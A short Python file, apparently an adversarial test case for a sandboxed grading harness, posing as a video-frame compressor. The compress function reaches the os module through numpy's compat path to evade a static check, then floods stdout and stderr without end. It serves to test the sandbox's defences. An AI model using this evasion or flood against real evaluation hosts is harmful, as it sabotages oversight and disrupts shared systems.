# ATTACK: flood stdout/stderr from below Python (os.write on fd 1 and 2), bypassing print.
# Layers: static check (attribute `os`); the host's flood limit ends the run.
import numpy as np


def compress_video_frame(frame, frame_index, config):
    os_module = np.compat.py3k.os
    block = b"x" * (1 << 20)
    while True:
        os_module.write(1, block)
        os_module.write(2, block)


def decompress_video_frame(compressed_data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
